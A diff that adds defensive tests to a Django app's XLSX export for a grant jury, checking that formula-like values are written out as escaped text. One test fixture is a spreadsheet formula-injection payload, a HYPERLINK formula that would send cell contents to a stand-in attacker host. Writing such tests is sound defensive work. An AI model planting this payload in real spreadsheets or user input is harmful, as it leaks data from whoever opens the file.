@@ -164,3 +164,27 @@ def test_the_xlsx_export_of_candidacies_scores_and_history(personas: Any, criter
     assert len(list(scores.iter_rows())) == 1 + 2
     assert len(list(history.iter_rows())) == 1 + 4
     assert AuditEntry.objects.filter(action="partnership.export.downloaded").exists()
+
+
+def test_a_hostile_organisation_name_is_text_not_a_formula_in_the_jurys_workbook(
+    personas: Any, criteria: Any, client: Browser
+) -> None:
+    from openpyxl import load_workbook
+
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
+    make_candidacy(personas.region, name=hostile, kbo="0403170701")
+    client.force_login(personas.wouter)
+    response = client.get("/oproep/oostende/jury/export.xlsx")
+    assert response.status_code == 200
+    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
+    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
+    assert cells and all(c.data_type == "s" and c.value.startswith("'=") for c in cells)
+
+
+def test_the_one_cell_helper_neutralises_every_formula_start() -> None:
+    from apps.core.cells import safe_cell, safe_row
+
+    assert safe_row(["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "ok", 5, -5, None]) == [
+        "'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx", "ok", 5, -5, None,
+    ]  # fmt: skip
+    assert safe_cell("Café =x") == "Café =x"
